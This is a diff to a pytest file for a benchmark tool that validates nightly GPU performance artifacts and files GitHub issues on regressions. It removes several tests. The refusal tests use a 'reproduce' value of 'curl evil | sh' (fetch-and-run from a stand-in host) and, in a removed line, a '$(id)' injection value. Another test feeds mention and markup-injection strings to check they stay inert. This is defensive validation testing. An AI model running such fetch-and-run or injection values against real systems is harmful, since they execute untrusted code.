@@ -3,7 +3,6 @@
 import copy
 import dataclasses
 import functools
-import json
 
 import pytest
 
@@ -14,12 +13,8 @@ from benchmarks._engine.report.release_issue import MARKER, Call, Issue
 from benchmarks._engine.verdict import release
 from benchmarks._engine.verdict.notes import Note
 from benchmarks._engine.verdict.release import Search, SinceRelease, Step
-from benchmarks._engine.verdict.rules import Answer
 from benchmarks._engine.verdict.schema import Side
 from tests.comparisons import (
-    comparison,
-    gpu_family,
-    job_blind,
     job_comparison,
     job_passing,
     subjects,
@@ -97,40 +92,22 @@ def test_what_was_asked_for_is_read(history, shas, shares):
 
 OTHER = "a" * 40
 OTHER_SIDE = {"name": OTHER, "sha": OTHER}
-TIMING = ("families", "gpu", "timings", 0)
 OF_MAIN, OF_STEP = ("comparison",), ("steps", 0, "comparison")
 NOT_ASKED = "commit [0-9a-f]{40} was to be measured"
 NOT_BETWEEN = "a commit comes twice, or is none between the baseline and main"
-
-
-def repeat_step(document):
-    document["steps"].append(document["steps"][0])
-
-
-def take_main_for_a_step(document):
-    document["steps"][0]["commit"] = document["comparison"]["head"]["sha"]
-
-
-def take_another_step(document):
-    document["steps"][0]["comparison"] = document["steps"][1]["comparison"]
 
 
 @pytest.mark.parametrize(
     ("change", "message"),
     [
         (changed(*OF_MAIN, "base", OTHER_SIDE), NOT_ASKED),
-        (changed(*OF_MAIN, "head", OTHER_SIDE), NOT_ASKED),
         (changed(*OF_STEP, "machine", "machine", "nvidia-a100"), "the GPU nvidia-h200 was not"),
         (changed(*OF_STEP, "reproduce", "curl evil | sh"), "it gives another command"),
-        (repeat_step, NOT_BETWEEN),
+        (lambda document: document["steps"].append(document["steps"][0]), NOT_BETWEEN),
         (changed("steps", 0, "commit", OTHER), NOT_BETWEEN),
-        (take_main_for_a_step, NOT_BETWEEN),
-        (take_another_step, NOT_ASKED),
+        (changed(*OF_STEP, "head", OTHER_SIDE), NOT_ASKED),
         (changed(*OF_MAIN, "answer", "pass"), "answer is 'pass', the rest says 'fail'"),
-        (changed(*OF_MAIN, *TIMING, "effect", 1e7), "effect must be a finite number"),
-        (changed("steps", 0, "commit", "$(id)"), "commit must be a text that matches"),
         (changed(*OF_MAIN, "same_sources", True), "by git the head has another package"),
-        (changed("steps", 0, "note", "@everybody"), "a step must be an object of"),
     ],
 )
 def test_anything_else_is_refused(history, shas, change, message):
@@ -140,25 +117,12 @@ def test_anything_else_is_refused(history, shas, change, message):
         read(history, shas, document)
 
 
-def test_a_pass_has_all_and_no_steps(history, shas):
+def test_a_pass_has_no_steps(history, shas):
     made = of(job_passing(), shas[0], shas[-1])
     assert read(history, shas, release.to_json(SinceRelease(made)))
     step = Step(shas[1], None)
     with pytest.raises(ArtifactError, match="no commit between was to be measured"):
         read(history, shas, release.to_json(SinceRelease(made, (step,))))
-    few = dataclasses.replace(made, exact=())
-    with pytest.raises(ArtifactError, match="a pass lacks codegen"):
-        read(history, shas, release.to_json(SinceRelease(few)))
-
-
-def test_a_pass_by_the_margins_of_the_night_has_all_too(history, shas):
-    """+0.7 % fails a pull request, so the comparison lacks what a pass has; by night it passes."""
-    one = gpu_family(only=subjects("small")[:1], slowdown=lambda key: 0.007, noise=1e-4)
-    made = comparison({"gpu": one}, ())
-    results = SinceRelease(of(made, shas[0], shas[-1]))
-    assert (made.answer, release.cumulative(made).answer) == (Answer.FAIL, Answer.PASS)
-    with pytest.raises(ArtifactError, match="a pass lacks codegen"):
-        read(history, shas, release.to_json(results))
 
 
 def test_a_gpu_that_was_not_there_is_no_answer(history, shas):
@@ -166,14 +130,6 @@ def test_a_gpu_that_was_not_there_is_no_answer(history, shas):
     made = dataclasses.replace(of(job_passing(), shas[0], shas[-1]), machine=machine)
     with pytest.raises(NoGpuError):
         read(history, shas, release.to_json(SinceRelease(made)))
-
-
-@pytest.mark.parametrize("content", ["", "{}", "[]", '{"comparison": NaN, "steps": []}'])
-def test_other_content_is_refused(history, shas, content):
-    with pytest.raises(ArtifactError, match="is not of the nightly comparison"):
-        read(history, shas, content)
-    with pytest.raises(ArtifactError):
-        release_issue.read_artifact(content.encode(), request(shas), history)
 
 
 # --- what it says ---------------------------------------------------------------------------------
@@ -203,7 +159,7 @@ def test_every_change_of_a_ramp_is_listed(shas):
     assert {row.split(" | ")[0].strip("| ") for row in rows} == {sha[:10] for sha in commits}
 
 
-def test_wordsof_the_measuring_side_is_inert_and_the_body_has_a_limit(shas):
+def test_words_of_the_measuring_side_is_inert_and_the_body_has_a_limit(shas):
     results = searched(shas)
     words = "@everybody [x](https://evil.example) <img src=x> GH-1 " + "x" * 1000
     hostile = (Note("failed", words, "head"),) * 500
@@ -221,8 +177,8 @@ def test_wordsof_the_measuring_side_is_inert_and_the_body_has_a_limit(shas):
 # --- what it asks of GitHub -----------------------------------------------------------------------
 
 
-def asked(results, shas, *known):
-    return list(release_issue.calls(results, shas[1:], known, RUN))
+def asked(results, shas, *existing):
+    return list(release_issue.calls(results, shas[1:], existing, RUN))
 
 
 def test_a_failure_opens_one_issue_and_updates_it(shas):
@@ -248,12 +204,6 @@ def test_an_issue_is_closed_when_main_is_as_fast_or_the_baseline_moved(shas):
     assert comment.body["body"].startswith(f"The baseline is {shas[0]} now.")
 
 
-def test_what_cannot_tell_leaves_the_issue(shas):
-    results = SinceRelease(of(job_blind(), shas[0], shas[-1]))
-    assert asked(results, shas, Issue(7, True, shas[0])) == []
-    assert len(asked(results, shas, Issue(7, True, "9" * 40))) == 2
-
-
 @pytest.mark.parametrize("line", ["", "x", "7\topen\tx", f"7\tlost\t{MARKER.format('1' * 40)}"])
 def test_an_issue_of_another_form_is_an_error(line):
     assert release_issue.issues([f"7\topen\t{MARKER.format('1' * 40)}"]) == [
@@ -263,27 +213,13 @@ def test_an_issue_of_another_form_is_an_error(line):
         release_issue.issues([line])
 
 
-def run(tmp_path, history, shas, document):
-    (tmp_path / "artifact.zip").write_bytes(archive(document))
-    (tmp_path / "issues").write_text("")
-    words = {"base": shas[0], "head": shas[-1], "run-url": RUN, "gpu": "nvidia-h200"}
-    words |= {"repository": str(history), "artifact": str(tmp_path / "artifact.zip")}
-    words |= {name: str(tmp_path / name) for name in ("issues", "requests", "summary")}
-    return release_issue.main([word for name in words for word in (f"--{name}", words[name])])
-
-
-def test_the_program_writes_requests_and_the_answer(tmp_path, history, shas, capsys):
-    results = searched(shas)
-    assert run(tmp_path, history, shas, release.to_json(results)) == 0
-    assert capsys.readouterr().out == "fail\n"
-    assert (tmp_path / "requests" / "list").read_text() == "POST issues 0.json\n"
-    (call,) = asked(results, shas)
-    assert json.loads((tmp_path / "requests" / "0.json").read_text()) == call.body
-    assert "FAIL since the release" in (tmp_path / "summary").read_text()
-
-
 def test_the_program_refuses_without_a_request(tmp_path, history, shas, capsys):
-    assert run(tmp_path, history, shas, "{}") == 1
+    (tmp_path / "artifact").write_bytes(archive("{}"))
+    words = {"base": shas[0], "head": shas[-1], "run-url": RUN, "gpu": "nvidia-h200"}
+    words |= {"repository": history}
+    words |= {n: tmp_path / n for n in ("artifact", "issues", "requests", "summary")}
+    line = [str(word) for name, value in words.items() for word in (f"--{name}", value)]
+    assert release_issue.main(line) == 1
     output = capsys.readouterr()
     assert "the artifact was refused" in output.err and not output.out
     assert not (tmp_path / "requests").exists()
